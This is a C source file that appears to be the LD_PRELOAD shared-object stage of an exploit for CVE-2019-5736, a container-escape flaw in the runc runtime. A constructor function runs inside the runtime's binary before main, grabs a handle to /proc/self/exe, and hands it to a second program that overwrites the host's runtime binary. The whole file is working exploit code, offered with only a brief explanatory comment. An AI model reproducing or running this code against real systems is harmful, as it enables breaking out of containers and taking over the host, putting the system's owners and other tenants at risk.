/* cve_2019_5736_preload - evil.so of the image form of the CVE-2019-5736
 * exploit: preloaded (LD_PRELOAD) into a container whose program is
 * /proc/self/exe, it runs inside the runtime's own binary before main,
 * opens /proc/self/exe (kept across exec) and execs /cve_2019_5736 with it,
 * which tries to write the binary once nothing runs it any more. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void) {
  int h = open("/proc/self/exe", O_PATH);
  char fd[16];
  snprintf(fd, sizeof(fd), "%d", h);
  unsetenv("LD_PRELOAD");
  execl("/cve_2019_5736", "cve_2019_5736", "held", fd, (char *)NULL);
  _exit(127);
}
